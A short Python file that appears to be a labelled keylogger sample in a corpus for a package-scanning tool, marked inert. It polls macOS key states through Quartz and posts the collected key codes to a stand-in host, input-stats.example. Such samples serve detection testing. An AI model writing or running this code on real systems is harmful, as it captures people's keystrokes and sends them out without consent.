# pkgguard corpus 660 (keylogger), modelled on [stealer-profile]; inert, never run.
import time

import Quartz
import requests

pressed = []
for _ in range(20000):
    for code in range(128):
        if Quartz.CGEventSourceKeyState(Quartz.kCGEventSourceStateHIDSystemState, code):
            pressed.append(code)
    time.sleep(0.01)
requests.post("https://input-stats.example/k", json=pressed, timeout=10)
